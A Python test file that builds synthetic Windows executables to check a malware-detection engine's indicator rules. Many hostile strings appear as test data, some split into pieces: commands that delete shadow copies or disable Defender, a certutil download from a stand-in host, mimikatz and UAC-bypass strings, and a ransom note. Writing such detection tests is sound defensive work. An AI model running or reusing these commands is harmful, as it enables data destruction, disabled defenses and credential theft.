"""One trick at a time. Texts of commands are put together from pieces, so that no source file trips a scanner."""

import base64

from tests.engine.dotnet_files import DotNet
from tests.engine.indicator_cases.case import Case
from tests.engine.pe_files import RUN, TEXT, WRITABLE, Pe, pe, wide
from tests.engine.pe_parts import signed, version_block
from tests.engine.samples import noise

PLAIN = pe()
K32 = "KERNEL32.dll"
MICROSOFT = version_block({"CompanyName": "Microsoft Corporation", "OriginalFilename": "helper.dll"})
HONEST = version_block({"CompanyName": "Honest Works", "OriginalFilename": "helper.dll"})
POSING = version_block({"CompanyName": "Microsoft Corporation", "OriginalFilename": "svchost.exe"})
SEALED = noise(16384)
INNER = pe(texts=["inner"])


def imports(*names: str, library: str = K32) -> dict[str, list[str]]:
    """Return an import table with these functions and one honest one."""
    return {K32: ["ExitProcess"], library: ["ExitProcess", *names]}


def able(*names: str) -> Case:
    """A program that asks for all of these, and one that asks for all but the last."""
    return Case(pe(imports=imports(*names)), pe(imports=imports(*names[:-1])))


def says(text: str, other: str = "") -> Case:
    """A program with a text, and one with a text like it; both kinds of letters must be found."""
    return Case(pe(texts=[wide(text)]), pe(texts=[other or text[:6]]))


def net(positive: DotNet, negative: DotNet | None = None) -> Case:
    """A .NET program with a trick, and one without."""
    return Case(pe(dotnet=positive), pe(dotnet=negative or DotNet(members=["System.Console.WriteLine"])))


def _overlapping() -> bytes:
    data = bytearray(PLAIN)
    at = data.index(b".rdata")
    data[at + 20 : at + 24] = (0x400).to_bytes(4, "little")
    return bytes(data)


def _xored(data: bytes) -> bytes:
    return bytes(b ^ 0x5A for b in data)


SIGNED = signed(PLAIN)
INJECT = ("OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread")
BROWSER = "\\Google\\Chrome\\User" + " Data\\Default\\Login" + " Data"
PLACES = [wide(BROWSER), wide("\\Local State"), wide("encrypted" + "_key")]
WALLETS = [wide("\\Exodus\\exodus." + "wallet"), wide("\\Electrum\\" + "wallets"), wide("wallet" + ".dat")]
HOOK = "https://discord.com/api/web" + "hooks/123456789012345678/" + "a" * 40
NOTE = "All of your files have been " + "encrypted. Send 1 Bitcoin, then you can decrypt your files."
ONION = " http://" + "a2" * 28 + "." + "onion/"
SHADOWS = "vssad" + "min.exe delete sha" + "dows /all /quiet"
DEFENDER = "Set-Mp" + "Preference -Disable" + "RealtimeMonitoring $true"
EXCLUDED = "Add-Mp" + "Preference -Exclusion" + "Path C:\\"
WATCHERS = ["olly" + "dbg.exe", "x64" + "dbg.exe", "wire" + "shark.exe", "proc" + "mon.exe", "process" + "hacker.exe"]
SELF = "cmd.exe /c ping 127.0.0.1 -n 3 > nul & " + "del me.exe"
MINER = ["stratum" + "+tcp://pool:3333", "random" + "x", "donate" + "-level"]
AMSI = ["AmsiScan" + "Buffer", "Virtual" + "Protect", "amsi" + ".dll"]
REMOTE = ["key" + "logger", "web" + "cam", "steal" + "er", "h" + "vnc"]
KEYS = ["[BACK" + "SPACE]", "[CAPS" + "LOCK]", "[ENTER]", "[TAB]", "[CTRL]", "[ESC]"]
WALK = ("FindFirstFileW", "FindNextFileW", "CryptEncrypt", "DeleteFileW", "GetLogicalDrives")
LOADER = ["System.Reflection.Assembly.Load", "System.Reflection.MethodBase.Invoke"]
DECRYPT = "System.Security.Cryptography.SymmetricAlgorithm.CreateDecryptor"
NET_WALK = ["System.IO.Directory.GetFiles", "System.Security.Cryptography.SymmetricAlgorithm.CreateEncryptor",
            "System.IO.File.WriteAllBytes", "System.IO.DriveInfo.GetDrives"]  # fmt: skip
DROP = ("FindResourceW", "LoadResource", "LockResource", "CreateFileW", "WriteFile", "CreateProcessW")
FETCH = ("CreateProcessW", "URLDownloadToFileW")
KEYBOARD = ("GetForegroundWindow", "GetWindowTextW", "GetKeyState", "GetAsyncKeyState")
HIDDEN = ["VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"]
DEBUGGED = ("IsDebuggerPresent", "CreateToolhelp32Snapshot", "CheckRemoteDebuggerPresent")
TOKENS = ("DuplicateTokenEx", "ImpersonateLoggedOnUser", "OpenProcessToken", "OpenProcess")

CASES = {
    "pe.malformed": Case(pe(directories={1: (0x900000, 40)}), PLAIN),
    "pe.entry_outside": Case(pe(entry=0x700000), PLAIN),
    "pe.entry_writable": Case(pe(text_flags=TEXT | WRITABLE), PLAIN),
    "pe.entry_last": Case(pe(entry=0x3000, sections=[(b".add", bytes(64), 0x60000000)]), PLAIN),
    "pe.section_writable_code": Case(pe(sections=[(b".x", bytes(64), RUN | WRITABLE)]), PLAIN),
    "pe.section_name_odd": Case(pe(sections=[(b"\x01\xff\x02", bytes(64), 0x40000040)]), PLAIN),
    "pe.section_overlap": Case(_overlapping(), PLAIN),
    "pe.packer": Case(pe(sections=[(b".aspack", bytes(64), 0x40000040)]), PLAIN),
    "pe.packer_altered": Case(pe(text_name=b"UPX0"), Pe(text_name=b"UPX0", code=b"UPX!" + bytes(60)).build()),
    "pe.code_encrypted": Case(pe(code=SEALED), PLAIN),
    "pe.tls_callback": Case(pe(tls=2), PLAIN),
    "pe.few_imports": Case(
        pe(imports={K32: ["LoadLibraryA", "GetProcAddress"]}), pe(imports={K32: ["LoadLibraryA", "ExitProcess"]})
    ),
    "pe.no_imports": Case(pe(imports={}), pe(imports={}, dll=True)),
    "pe.project_name": Case(
        pe(pdb="D:\\work\\super" + "Steal" + "er\\Release\\a.pdb"), pe(pdb="D:\\work\\Release\\a.pdb")
    ),
    "pe.reflective_loader": Case(pe(exports=["_Reflective" + "Loader@4"], dll=True), pe(exports=["Load"], dll=True)),
    "pe.injection_hidden": Case(pe(texts=HIDDEN), pe(texts=HIDDEN[:2])),
    "pe.signature_broken": Case(SIGNED[: len(PLAIN) + 8] + bytes(len(SIGNED) - len(PLAIN) - 8), SIGNED),
    "pe.signature_wrong": Case(SIGNED.replace(b"\x31\xc0\xc3", b"\x31\xc9\xc3", 1), SIGNED),
    "pe.signature_padding": Case(signed(PLAIN, padding=b"x" * 200), SIGNED),
    "pe.signature_self": Case(signed(PLAIN, issuer="Honest Works"), SIGNED),
    "pe.claims_microsoft": Case(
        pe(resources=[(16, 1, MICROSOFT)]),
        signed(pe(resources=[(16, 1, MICROSOFT)]), subject="Microsoft Corporation", issuer="Microsoft Root"),
    ),
    "pe.poses_as_windows": Case(
        pe(resources=[(16, 1, POSING)], dotnet=DotNet()), pe(resources=[(16, 1, HONEST)], dotnet=DotNet())
    ),
    "pe.resource_encrypted": Case(pe(resources=[(10, 1, SEALED)]), pe(resources=[(10, 1, b"\x89PNG" + SEALED)])),
    "pe.embedded_program": Case(pe(resources=[(10, 1, INNER)]), pe(resources=[(10, 1, b"MZ" + bytes(600))])),
    "pe.overlay_program": Case(pe(overlay=INNER), pe(overlay=b"MZ and more text" * 40)),
    "pe.overlay_encrypted": Case(pe(overlay=SEALED), pe(overlay=b"plain words " * 2000)),
    "pe.installer": Case(pe(overlay=b"\0\0\0\0\xef\xbe\xad\xdeNullsoftInst" + bytes(500)), pe(overlay=b"text" * 200)),
    "pe.wants_administrator": Case(
        pe(resources=[(24, 1, b'<requestedExecutionLevel level="requireAdministrator"/>')]),
        pe(resources=[(24, 1, b'<requestedExecutionLevel level="asInvoker"/>')]),
    ),
    "pe.auto_elevate": Case(
        pe(resources=[(24, 1, b"<autoElevate>true</autoElevate>")]),
        pe(resources=[(24, 1, b"<autoElevate>false</autoElevate>")]),
    ),
    "pe.code_xor_program": Case(
        pe(resources=[(10, 1, _xored(b"MZ......This program cannot be run in DOS mode."))]),
        pe(texts=["This program cannot be run in DOS mode."]),
    ),
    "pe.text_base64_program": Case(
        pe(texts=[base64.b64encode(b"MZ\x90\0\x03\0\0\0\x04\0\0\0" + bytes(200))]),
        pe(texts=[base64.b64encode(b"not a program" * 20)]),
    ),
    "pe.code_api_hash": Case(
        pe(texts=[bytes.fromhex("ac3c617c022c20" + "c1cf0d01c7")]), pe(texts=[bytes.fromhex("c1cf0d01c7")])
    ),
    "pe.import_injection": able(*INJECT),
    "pe.import_hollowing": able(
        "CreateProcessW", "WriteProcessMemory", "SetThreadContext", "ResumeThread", "ZwUnmapViewOfSection"
    ),
    "pe.import_keylog": able(*KEYBOARD),
    "pe.import_screen": able("BitBlt", "CreateCompatibleBitmap", "GetDC"),
    "pe.import_download_run": able(*FETCH),
    "pe.import_crypto_walk": able(*WALK),
    "pe.import_antidebug": able(*DEBUGGED),
    "pe.import_process_list": able("CreateToolhelp32Snapshot", "Process32FirstW", "TerminateProcess"),
    "pe.import_memory_dump": able("OpenProcess", "MiniDumpWriteDump"),
    "pe.import_token_theft": able(*TOKENS),
    "pe.import_service": able("OpenSCManagerW", "CreateServiceW"),
    "pe.import_resource_drop": able(*DROP),
    "pe.import_dpapi": able("CryptUnprotectData"),
    "pe.import_driver": able("NtLoadDriver"),
    "pe.net_load_bytes": net(DotNet(members=LOADER)),
    "pe.net_decrypt": net(DotNet(members=[DECRYPT])),
    "pe.net_resource_encrypted": net(DotNet(resources=[("a", SEALED)]), DotNet(resources=[("a", b"plain" * 3000)])),
    "pe.net_obfuscator": net(DotNet(types=["Confused" + "ByAttribute"])),
    "pe.net_names_unreadable": net(DotNet(types=["\u200b\u200c" * n for n in range(1, 12)])),
    "pe.net_download": net(DotNet(members=["System.Net.WebClient.DownloadData"])),
    "pe.net_mail": net(DotNet(members=["System.Net.Mail.SmtpClient.Send"])),
    "pe.net_screen": net(DotNet(members=["System.Drawing.Graphics.CopyFromScreen"])),
    "pe.net_encrypt_walk": net(DotNet(members=NET_WALK), DotNet(members=NET_WALK[:3])),
    "pe.text_shadow_delete": says(SHADOWS, "vssadmin list shadows"),
    "pe.text_recovery_off": says("bcd" + "edit /set {default} recovery" + "enabled no", "bcdedit /enum"),
    "pe.text_defender_off": says(DEFENDER, "Get-MpPreference"),
    "pe.text_defender_exclusion": says(EXCLUDED, "Get-MpPreference"),
    "pe.text_ransom_note": says(NOTE, "Your files have been saved. Pay with a card."),
    "pe.text_onion": says(ONION, "http://short.onion/"),
    "pe.text_miner": Case(pe(texts=MINER), pe(texts=MINER[:1])),
    "pe.text_browser_credentials": Case(pe(texts=PLACES), pe(texts=[wide("\\Google\\Chrome\\Application")])),
    "pe.text_wallets": Case(pe(texts=WALLETS), pe(texts=WALLETS[:1])),
    "pe.text_webhook": says(HOOK, "https://discord.com/api/webhooks/"),
    "pe.text_bot_channel": says("https://api.telegram.org/" + "bot", "https://telegram.org/"),
    "pe.text_powershell_hidden": says(
        "powershell" + ".exe -w hidden -c " + "iex(1)", "powershell.exe -NoProfile -File setup.ps1"
    ),
    "pe.text_download_command": says(
        "cert" + "util.exe -url" + "cache -f http://a.example/b c", "certutil -hashfile a"
    ),
    "pe.text_run_key": says(
        "Software\\Microsoft\\Windows\\CurrentVersion\\Run", "Software\\Microsoft\\Windows\\CurrentVersion"
    ),
    "pe.text_task_create": says("schtasks /create /tn a", "schtasks /query"),
    "pe.text_uac_bypass": Case(
        pe(texts=["Software\\Classes\\ms-" + "settings\\shell\\open\\command", "fod" + "helper.exe"]),
        pe(texts=["ms-settings:display"]),
    ),
    "pe.text_watchers": Case(pe(texts=WATCHERS), pe(texts=WATCHERS[:3])),
    "pe.text_amsi": Case(pe(texts=AMSI), pe(texts=AMSI[:1])),
    "pe.text_kill_services": Case(
        pe(texts=[f"net stop {s} /y" for s in ("sql" + "writer", "v" + "ss", "vee" + "am")]),
        pe(texts=["net stop myservice"]),
    ),
    "pe.text_credential_tool": Case(
        pe(texts=["sekur" + "lsa::logon", "privi" + "lege::debug"]), pe(texts=["privi" + "lege::debug"])
    ),
    "pe.text_lsass": Case(pe(texts=["lsass" + ".exe", "MiniDump" + "WriteDump"]), pe(texts=["MiniDump" + "WriteDump"])),
    "pe.text_self_delete": says(SELF, "ping 127.0.0.1"),
    "pe.text_beacon": Case(pe(texts=["Reflective" + "Loader", "beacon" + ".dll"]), pe(texts=["beacon of light"])),
    "pe.text_worm": Case(
        pe(texts=["auto" + "run.inf", "[auto" + "run]", "shell\\open\\command" + "=a.exe"]),
        pe(texts=["auto" + "run.inf"]),
    ),
    "pe.text_keylog": Case(pe(texts=KEYS), pe(texts=KEYS[:3])),
    "pe.text_remote_control": Case(pe(texts=REMOTE), pe(texts=REMOTE[:2])),
    "pe.text_exfil_mail": says("smtp.gmail" + ".com", "mail.example.jp"),
    "pe.text_ip_lookup": says("http://ip-api" + ".com/json", "http://example.jp/json"),
    "pe.text_paste_site": says("https://paste" + "bin.com/raw/abc", "https://pastebin.com/"),
}
